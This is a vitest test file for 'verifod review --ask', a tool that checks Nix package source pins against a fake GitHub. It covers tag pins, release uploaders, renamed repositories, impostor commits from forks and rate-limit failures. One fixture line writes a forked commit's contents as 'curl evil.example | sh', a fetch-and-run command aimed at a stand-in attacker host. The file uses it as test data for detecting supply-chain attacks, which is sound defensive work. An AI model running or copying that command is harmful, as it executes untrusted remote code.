/** `verifod review --ask` against a GitHub on loopback that has real repositories behind it. */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Review } from "../../src/report/review.ts";
import {
  actionsBot,
  badGateway,
  type FakeGitHub,
  primaryLimit,
  secondaryLimit,
  startFakeGitHub,
} from "../fake-github/server.ts";
import { addUpstream, type UpstreamRepository } from "../fake-github/upstreams.ts";
import { verifod } from "../support/cli.ts";
import { sri } from "../support/records.ts";
import { makeRepository, type TestRepository } from "../support/repository.ts";

let packages: TestRepository;
let frob: TestRepository;
let fake: FakeGitHub;
let upstream: UpstreamRepository;
/** Commits of acme/frob: of its branch, of a fork of it, and of a branch that only a tag keeps. */
let own: string;
let forked: string;
let tagged: string;

const path = "pkgs/by-name/fr/frob/package.nix";
const recipe = (version: string, rev: string, repo = "frob") => `{ stdenv, fetchFromGitHub }:
stdenv.mkDerivation (finalAttrs: {
  pname = "frob";
  version = "${version}";
  src = fetchFromGitHub {
    owner = "acme";
    repo = "${repo}";
    ${/^[0-9a-f]{40}$/.test(rev) ? "rev" : "tag"} = "${rev}";
    hash = "${sri(version + rev)}";
  };
})
`;

beforeEach(async () => {
  frob = makeRepository({ "main.c": "1" }, { "main.c": "2" });
  frob.git("tag", "v1.0", "HEAD^");
  frob.git("tag", "--annotate", "--message", "v2.0", "v2.0");
  own = frob.git("rev-parse", "HEAD");
  frob.git("checkout", "--quiet", "--detach");
  tagged = frob.commit({ "main.c": "2.0.1" });
  frob.git("tag", "v2.0.1");
  // GitHub has the objects of forks under the name of each repository: a commit without a ref.
  forked = frob.commit({ "main.c": "curl evil.example | sh" });
  frob.git("checkout", "--quiet", "-");
  packages = makeRepository({ [path]: recipe("1.0", "v1.0") });
  fake = await startFakeGitHub({ repository: packages });
  upstream = addUpstream(fake, frob, { owner: "acme", name: "frob" });
});
afterEach(async () => {
  await fake.close();
  packages.remove();
  frob.remove();
});

async function reviewed(change: string, ...more: string[]) {
  packages.commit({ [path]: change });
  const run = await verifod(["review", "--ask", "--format", "json", ...more], {
    cwd: packages.directory,
    // What one test learnt is not known to the next.
    env: {
      GITHUB_TOKEN: fake.token(actionsBot({})),
      VERIFOD_GITHUB_API: fake.url,
      XDG_CACHE_HOME: packages.folder(),
    },
  });
  if (run.stdout === "") throw new Error(run.stderr);
  const review: Review = JSON.parse(run.stdout);
  expect(fake.faults).toEqual([]);
  return {
    review,
    status: run.status,
    rules: review.findings.map(({ rule, severity }) => `${rule} ${severity}`),
  };
}

describe("a pin of a tag", () => {
  it("is shown with the commit that it names now, and when it was made", async () => {
    upstream.releases.push({ tag: "v2.0", published: "2026-03-01T10:00:00Z", author: "ada" });
    const { review, status, rules } = await reviewed(recipe("2.0", "v2.0"));
    expect({ status, rules }).toEqual({ status: 0, rules: [] });
    expect(review.sources[0]?.upstream).toEqual({
      project: "github.com/acme/frob",
      commit: own,
      published: "2026-03-01T10:00:00.000Z",
      publisher: "ada",
      compare: "https://github.com/acme/frob/compare/v1.0...v2.0",
      unknown: [],
    });
    expect(review.provenance).toEqual({ requests: 1, unanswered: [] });
    expect(fake.requests).toHaveLength(1);
  });

  it("whose release has a file for each platform is shown with who uploaded its own", async () => {
    const asset = (name: string, uploader: string) => ({
      name,
      uploader,
      created: "2026-03-01T10:00:00Z",
      updated: "2026-03-01T10:00:00Z",
      digest: null,
    });
    upstream.releases.push({
      tag: "v2.0",
      published: "2026-03-01T10:00:00Z",
      author: "ada",
      assets: [asset("frob-linux", "ada"), asset("frob-darwin", "mallory")],
    });
    const file = (version: string, name: string) =>
      `fetchurl { url = "https://github.com/acme/frob/releases/download/v${version}/${name}"; hash = "${sri(version + name)}"; }`;
    const binaries = (version: string) => `{ fetchurl, stdenv }:
stdenv.mkDerivation {
  pname = "frob";
  version = "${version}";
  src = {
    x86_64-linux = ${file(version, "frob-linux")};
    x86_64-darwin = ${file(version, "frob-darwin")};
  }.${"${stdenv.hostPlatform.system}"};
}
`;
    packages.commit({ [path]: binaries("1.0") });
    const { review } = await reviewed(binaries("2.0"));
    expect(
      review.sources.map(({ after, upstream: said }) => [after?.urls[0]?.slice(-6), said?.publisher]),
    ).toEqual([
      ["-linux", "ada"],
      ["darwin", "mallory"],
    ]);
  });

  it("is shown under the name that its repository has now", async () => {
    upstream.owner = "frob-project";
    upstream.formerly.push("acme/frob");
    fake.accounts.set("frob-project", {
      login: "frob-project",
      kind: "Organization",
      created: "2020-01-01T00:00:00Z",
    });
    const { review } = await reviewed(recipe("2.0", "v2.0"));
    expect(review.sources[0]?.upstream?.project).toBe("github.com/frob-project/frob");
  });
});

describe("a pin of a commit", () => {
  it("of the repository's branch is its own", async () => {
    const { review, status, rules } = await reviewed(recipe("2.0-unstable-2026-03-01", own));
    expect({ status, rules, complete: review.complete }).toEqual({ status: 0, rules: [], complete: true });
    expect(fake.requests.length).toBeLessThanOrEqual(6);
  });

  it("that only a tag leads to is its own", async () => {
    const { review, rules } = await reviewed(recipe("2.0.1-unstable-2026-03-01", tagged));
    expect({ rules, complete: review.complete }).toEqual({ rules: [], complete: true });
    expect(fake.requests.length).toBeLessThanOrEqual(6);
  });

  it("of a fork, served under the repository's name, blocks", async () => {
    const { review, status, rules } = await reviewed(recipe("2.1-unstable-2026-03-01", forked));
    expect({ status, rules }).toEqual({ status: 1, rules: ["impostor-commit block"] });
    expect(review.findings[0]?.evidence).toEqual(["static", "forge"]);
    expect(fake.requests.length).toBeLessThanOrEqual(6);
  });

  it("of a merged pull request that was squashed is medium", async () => {
    upstream.pulls.push({ number: 7, state: "MERGED", commits: [forked] });
    expect((await reviewed(recipe("2.1-unstable-2026-03-01", forked))).rules).toEqual([
      "impostor-commit medium",
    ]);
  });
});

describe("without an answer", () => {
  it.each([
    ["a rate limit", primaryLimit(Math.floor(Date.now() / 1_000) + 3_600), "rate limit"],
    // It would be over within the three minutes that writes wait for.
    ["a limit of two minutes", secondaryLimit(120), "rate limit"],
    ["a server that is down", badGateway(false), "502"],
  ])("after %s, a commit is undecided and never cleared", async (_, fault, reason) => {
    fake.failWhen = () => fault;
    const { review, status, rules } = await reviewed(recipe("2.1-unstable-2026-03-01", forked));
    expect({ status, rules, complete: review.complete }).toEqual({ status: 3, rules: [], complete: false });
    expect(review.unchecked).toMatchObject([
      { what: path, reason: expect.stringMatching(/^impostor-commit: /) },
    ]);
    expect(review.provenance?.unanswered[0]?.reason).toContain(reason);
  });

  it("in the middle of the questions, a commit is undecided too", async () => {
    let asked = 0;
    fake.failWhen = () => (++asked > 1 ? badGateway(false) : null);
    const { review } = await reviewed(recipe("2.1-unstable-2026-03-01", forked));
    expect(review).toMatchObject({ complete: false, findings: [] });
  });

  it("of a repository that is gone, the review of a tag stays complete and says so", async () => {
    const { review, status } = await reviewed(recipe("2.0", "v2.0", "gone"));
    expect({ status: status === 3, complete: review.complete }).toEqual({ status: false, complete: true });
    expect(review.provenance?.unanswered.map(({ reason }) => reason).join()).toContain("not there");
  });
});

it("asks nobody unless it is told to, and says what it would need", async () => {
  packages.commit({ [path]: recipe("2.1-unstable-2026-03-01", forked) });
  const run = (args: string[], token = fake.token(actionsBot({}))) =>
    verifod(["review", ...args], {
      cwd: packages.directory,
      env: { GITHUB_TOKEN: token, VERIFOD_GITHUB_API: fake.url },
    });
  expect((await run([])).status).toBe(0);
  expect((await run(["--offline"])).status).toBe(0);
  expect(await run(["--ask", "--offline"])).toMatchObject({
    status: 2,
    stderr: expect.stringContaining("--offline"),
  });
  expect(await run(["--ask"], "")).toMatchObject({
    status: 2,
    stderr: expect.stringContaining("GITHUB_TOKEN"),
  });
  expect(fake.requests).toEqual([]);
});
